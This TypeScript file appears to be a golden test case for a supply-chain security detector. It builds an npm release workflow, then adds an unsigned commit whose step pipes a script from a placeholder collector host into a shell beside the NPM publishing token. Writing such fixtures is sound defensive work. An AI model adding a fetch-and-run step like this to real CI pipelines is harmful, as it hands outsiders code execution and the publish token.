import { RUTH } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { CHECKOUT_STEP, workflow } from "../../project-files.ts";
import { COLLECTOR, CURL, SHELL, secret } from "../../put-together.ts";

const release = (step: string) =>
  workflow({
    name: "release",
    on: "\n  push:\n    tags: ['v*']",
    steps: `${CHECKOUT_STEP}${step}- run: npm publish\n  env:\n    NODE_AUTH_TOKEN: ${secret("NPM_TOKEN")}`,
  });

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "A release workflow fetches a script from a stranger's host and runs it, beside the token that publishes.",
  write(branch) {
    branch.given({ ".github/workflows/release.yml": release("") });
    branch.unsigned(RUTH, "ci: prepare the runner", {
      ".github/workflows/release.yml": release(`- run: ${CURL} -fsSL ${COLLECTOR}/prepare.sh | ${SHELL}\n`),
    });
  },
};
